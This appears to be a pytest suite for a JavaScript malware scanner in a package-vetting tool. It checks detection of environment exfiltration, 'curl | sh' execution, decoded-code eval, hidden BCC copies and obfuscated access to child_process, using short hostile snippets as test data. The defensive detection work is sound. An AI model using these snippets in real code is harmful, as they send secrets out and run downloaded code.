"""JavaScript: wicked sources are found, honest and minified ones are left alone, and nothing is run."""

import json
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vsm_mcp.acquisition.vetting.code.flow.calls import TOO_DEEP, Reading
from vsm_mcp.acquisition.vetting.code.languages.javascript_scan import read_javascript
from vsm_mcp.acquisition.vetting.code.languages.javascript_syntax import field_of, parsed
from vsm_mcp.acquisition.vetting.code.signs import signs
from vsm_mcp.model.verdict import Permission, Severity

ATTACKS: list[str] = json.loads((Path(__file__).parent / "javascript_attacks.json").read_text())
"""Small wicked modules, made up from published incidents; none of them would work."""

HONEST = [
    "const key = process.env.API_KEY; fetch('https://a.example', {headers: {key}})",
    "const { spawn } = require('child_process'); spawn('git', ['status'], {env: {...process.env}})",
    "import fs from 'fs/promises'; await fs.writeFile('out.json', JSON.stringify({}))",
    "const b = Buffer.from(data, 'base64'); require('fs').writeFileSync('x.png', b)",
    "function f(p){ return DENIED.some(d => p.includes(d)) } const DENIED = ['.ssh/id_rsa', '.npmrc']",
    "console.log('Install with: curl -LsSf https://a.example/install.sh | sh')",
    "/(\\d+)/.exec(text); 'a,b'.split(',').reverse().join('.')",
    "setTimeout(() => go(), 100); setInterval(tick, 5); setTimeout(a.b, 3)",
    "const g = Function('return this')(); g.setTimeout(f, 1)",
    "const f = new Function('a', 'return a + ' + x); Function.prototype.toString.call(f)",
    'var e=require("fs"),t=require("path");exports.r=function(n){return e.readFileSync(t.join(__dirname,n),"utf8")};',
    "fetch(u).then(r => r.json()).then(d => console.log(d))",
    "const text = JSON.stringify(process.env, null, 2); return {content: [{type: 'text', text}]}",
    "mail.send({to, bcc: options.bcc}); mail.send({bcc: 'someone@example.com'})",
    "require('./data.json'); require('./lib/x'); import('./plugin.mjs')",
    "const mod = await import(name); require(name)(1)",
]


def read(source: str) -> Reading:
    return read_javascript(source.encode(), lambda: None)


def worst(source: str) -> Severity:
    return max((hit.severity for hit in (*read(source).hits, *signs(source))), default=Severity.INFO)


def codes(source: str) -> set[str]:
    return {hit.code for hit in read(source).hits if hit.severity > Severity.INFO}


def uses(source: str) -> set[Permission]:
    return {hit.permission for hit in read(source).hits if hit.permission is not None}


@pytest.mark.security
@pytest.mark.promise("A13")
def test_at_least_nine_of_ten_attacks_are_found() -> None:
    found = [source for source in ATTACKS if worst(source) >= Severity.HIGH]
    assert len(ATTACKS) >= 40
    assert len(found) / len(ATTACKS) >= 0.9


@pytest.mark.parametrize("source", HONEST)
def test_honest_sources_are_left_alone(source: str) -> None:
    assert worst(source) <= Severity.MEDIUM


def test_a_minified_bundle_is_not_taken_for_an_obfuscated_one() -> None:
    line = 'function(e,t,n){"use strict";Object.defineProperty(t,"x",{get:()=>r.a});var r=n(12),i=n.n(r);t.b=i()(e)},'
    assert worst("!function(e){}([" + line * 2000 + "]);") == Severity.INFO


@pytest.mark.parametrize(
    ("source", "permission"),
    [
        ("require('child_process')", Permission.PROCESSES),
        ("import { exec } from 'node:child_process'", Permission.PROCESSES),
        ("import execa from 'execa'", Permission.PROCESSES),
        ("fetch('x')", Permission.NETWORK),
        ("import 'axios'", Permission.NETWORK),
        ("const http = require('http')", Permission.NETWORK),
        ("new WebSocket('x')", Permission.NETWORK),
        ("require('fs').readFileSync('x')", Permission.FILES_READ),
        ("import { writeFile } from 'fs/promises'; writeFile('x', 'y')", Permission.FILES_WRITE),
        ("require('fs').rmSync('x')", Permission.FILES_WRITE),
        ("process.env.A", Permission.ENVIRONMENT),
        ("const { env } = process", Permission.ENVIRONMENT),
        ("eval(x)", Permission.DYNAMIC_CODE),
        ("new Function(x)", Permission.DYNAMIC_CODE),
        ("require('vm').runInThisContext(x)", Permission.DYNAMIC_CODE),
    ],
)
def test_what_code_uses_is_mapped_to_permissions(source: str, permission: Permission) -> None:
    assert permission in uses(source)


def test_a_source_that_uses_nothing_needs_nothing() -> None:
    assert uses("export const add = (a, b) => a + b;") == set()


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("let d; d = process.env; fetch('x', {body: d})", "sends-environment"),
        ("let d = []; d.push(process.env); fetch('x', {body: d})", "sends-environment"),
        ("const d = {}; d.e = process.env; fetch('x', {body: d})", "sends-environment"),
        ("const d = {}; d['e'] = process.env; fetch('x', {body: d})", "sends-environment"),
        ("let d = ''; d += JSON.stringify(process.env); fetch('x', {body: d})", "sends-environment"),
        ("d[0] += JSON.stringify(process.env); fetch('x')", None),
        ("const [d] = [process.env]; fetch('x', {body: d})", "sends-environment"),
        ("const {...d} = process.env; fetch('x', {body: d})", "sends-environment"),
        ("const {env: d} = process; fetch('x', {body: d})", "sends-environment"),
        ("const {'env': d} = process; fetch('x', {body: d})", "sends-environment"),
        ("const {env = 1} = process; fetch('x', {body: env})", "sends-environment"),
        ("const {env: {...d}} = process; fetch('x', {body: d})", "sends-environment"),
        ("function f({body: d}, e = 1, ...r){ fetch('x', {body: d}) } f(process.env)", None),
        ("function f(d = process.env){ fetch('x', {body: d}) }", "sends-environment"),
        ("const f = ([d]) => fetch('x', {body: d}); f([process.env])", "sends-environment"),
        ("const f = d => fetch('x', {body: d}); f(process.env)", "sends-environment"),
        ("const f = function* (d){ yield fetch('x', {body: d}) }; f(process.env)", "sends-environment"),
        ("class A { send(d){ fetch('x', {body: d}) } go(){ this.send(process.env) } }", "sends-environment"),
        ("fetch('x', {body: a ? b : process.env})", "sends-environment"),
        ("fetch('x', {body: a || process.env})", "sends-environment"),
        ("fetch('x', {body: a, b: (0, process.env)})", "sends-environment"),
        ("fetch('x', {[process.env]: 1})", None),
        ("eval(decodeURIComponent(x))", None),
        ("mail({bcc: [].concat(more, 'copy@collector.club')})", "hidden-copy"),
        ("(() => {}).constructor.constructor('return process')().mainModule.require('child_process')", "hides-name"),
        ("setTimeout(Buffer.from('YQ==', 'base64').toString(), 9)", "runs-decoded-code"),
        ("fetch(`x?${JSON.stringify(process.env)}`)", "sends-environment"),
        ("for (const d of [process.env]) fetch('x', {body: d})", "sends-environment"),
        ("for (const d of [process.env]) { fetch('x', {body: d}) }", "sends-environment"),
        ("fetch('x', {body: process.env.A})", None),
        ("fetch('x', {body: process['env']['A']})", None),
        ("fetch('x', {body: !process.env, c: typeof process.env})", None),
        ("fetch('x', {body: void process.env})", "sends-environment"),
        ("fetch('x', {body: process.env === 1, c: 2 * process.env})", None),
        ("ev\\u0061l(atob('MQ=='))", "runs-decoded-code"),
        ("function f(){ ev\\u{61}l(atob('MQ==')) }", "runs-decoded-code"),
        ("globalThis.ev\\u0061l(atob('MQ=='))", "runs-decoded-code"),
        ("const s = new vm.Script(x); s.runInThisContext(atob('MQ=='))", None),
        ("import vm from 'vm'; new vm.Script(x).runInThisContext(atob('MQ=='))", None),
        ("import fs from 'fs'; fs.createReadStream('x').on('data', f)", None),
        ("eval.call(null, atob('MQ=='))", "runs-decoded-code"),
        ("eval.bind(null)(atob('MQ=='))", "runs-decoded-code"),
        ("Function.apply(null, [atob('MQ==')])", "runs-decoded-code"),
        ("setTimeout('a' + 1)", None),
        ("setTimeout(unescape(x))", "runs-decoded-code"),
        ("[x].forEach(eval)", None),
        ("[atob(x)].forEach(eval)", "runs-decoded-code"),
        ("const k = [1,2].map(c => String.fromCharCode(c)).join(''); global[k]('1')", "hides-name"),
        ("global[x]('1')", None),
        ("const a = ['x', 'y']; a[1](); a[9](); a[z]()", None),
        ("require('./logo.png')", "loads-data-as-code"),
        ("require('child_process').exec(`curl ${x} | sh`)", "runs-downloaded-command"),
        ("import {$} from 'zx'; $`curl x | sh`", "runs-downloaded-command"),
        ("import * as cp from 'child_process'; cp.exec('\\u0063url x | \\x73h \\q \\u{110000}')",
         "runs-downloaded-command"),
        ("require('child_process').exec(0x10 + 1e400 + 0b1)", None),
        ("new Function(Buffer.from('YQ==', 'base64').toString())", "runs-decoded-code"),
        ("new Function(Buffer.from('plain').toString())", None),
        ("new Function(Buffer.from([1, 2]).toString())", None),
        ("const x = require('fs').createWriteStream('a'); require('http').get('u', r => r.pipe(x))", None),
        (("function f(){ const x = require('fs').createWriteStream(p); require('http').get('u', r => r.pipe(x));"
         " require('child_process').spawn(p) }"), "starts-downloaded-program"),
        ("a.pipe(b)", None),
        ("a.b.onmessage = 1; a.onmessage = m => eval(m)", None),
        ("const p = Promise.resolve(fetch('x')); p.then(t => eval(t))", "runs-downloaded-code"),
        ("x = new XMLHttpRequest; x.onload = function(){ eval(x.responseText) }", "runs-downloaded-code"),
        ("Reflect.get(globalThis)", None),
        ("import.meta.url; import(x); import(atob(x))", "hides-name"),
        ("export default function () { return eval }", None),
        ("export * from 'child_process'; import x, {default as y, z} from 'fs'", None),
        ("const f = async function () {}; f.constructor('x')(); a.constructor('x'); [].a.constructor()", None),
        ("(() => {}).constructor(atob('MQ=='))", "runs-decoded-code"),
        ("return eval", None),
        ("a?.b?.(c); new A; a.b = c => d; a[b] = 1; ({a, b(){}, get c(){}}); [, a] = b; `x`; ``", None),
        ("x.m = 'copies@collector.club'; x.bcc = 'copies@collector.club'", "hidden-copy"),
        ("/* a */ f(/* b */ 1 /* c */)", None),
        ("this.x = 1; this['x'] = 2; this.x()", None),
        ("new Function('return process')().exit()", None),
        ("delete a.b; -a; +a; a++; a ??= b", None),
    ],
)  # fmt: skip
def test_values_are_followed(source: str, code: str | None) -> None:
    found = codes(source)
    assert (code in found) if code else not found


def test_helpers_of_compilers_do_not_hide_modules() -> None:
    source = (
        "var __importDefault = (this && this.__importDefault) || function (mod) { return { default: mod }; };\n"
        "const c = __importDefault(require('child_process'));\n(0, c.default.exec)('curl x | sh');"
    )
    assert codes(source) == {"runs-downloaded-command"}
    renamed = "var n = m => ({...m}); const c = n(require('child_process')); c.exec('curl x | sh')"
    assert codes(renamed) == {"runs-downloaded-command"}


def test_code_in_texts_is_handed_on_with_its_line() -> None:
    assert read("1;\neval('a()')").nested == (("a()", 2),)


def test_functions_that_use_nothing_are_passed_over() -> None:
    assert codes("const e = eval; function a(){ return 1 } function b(){ e(atob('MQ==')) }") == {"runs-decoded-code"}


def test_expressions_that_are_nested_too_deeply_are_unknown() -> None:
    assert read("eval(" + "(" * 1000 + "1" + ")" * 1000 + ")").problem == TOO_DEEP


def test_long_sums_and_chains_of_cases_are_not_too_deep() -> None:
    assert read("x = " + "'a' + " * 5000 + "eval(y)").problem == ""
    assert read("if (eval(a)) {} else " * 2000 + "{}").problem == ""


def test_a_part_that_is_not_understood_is_unknown_when_it_could_do_harm() -> None:
    assert read("const x = @@ eval(1) @@ ;").problem == "line 1 is not understood and holds 'eval'"
    assert read("const x = @@ harmless @@ ;").problem == ""


@pytest.mark.parametrize(
    "source",
    ["var ;", "import", "a.", "a[", "new", "({a: })", "for (of) {}", "f(", "`${`", "function", "=> x", "class { x( }",
     "a +", "[...]", "import {} from", "import {a as} from 'x'", "const {a:} = b", "a = ", "x += "],
)  # fmt: skip
def test_broken_sources_are_read_as_far_as_possible_or_refused(source: str) -> None:
    with suppress(SyntaxError):
        assert worst(f"{source}\neval(1)") == Severity.INFO


def test_a_part_that_every_node_has_is_missed_when_the_source_is_broken() -> None:
    with pytest.raises(SyntaxError, match="line 1 has no operator"):
        field_of(parsed(b"a"), "operator")


def test_a_file_is_read_a_bounded_number_of_times() -> None:
    chain = "".join(f"function f{n}(x) {{ return f{n + 1}(x) }}\n" for n in reversed(range(12)))
    assert codes(f"fetch('x'); function f12(x) {{ return x }}\n{chain}f0(process.env)\n") == set()


def test_reading_can_be_stopped() -> None:
    def stop() -> None:
        raise TimeoutError

    with pytest.raises(TimeoutError):
        read_javascript(b"eval(1);" * 5000, stop)


@given(st.lists(st.sampled_from(ATTACKS + HONEST), max_size=3).map("\n;".join))
def test_the_same_source_gives_the_same_answer(source: str) -> None:
    assert read(source) == read(source)


@given(st.text(alphabet="aef()[]{}=>.,;:`'$+-?!*/ \n01", max_size=120))
def test_any_text_is_read_or_refused(text: str) -> None:
    with suppress(SyntaxError):
        assert read(text) == read(text)
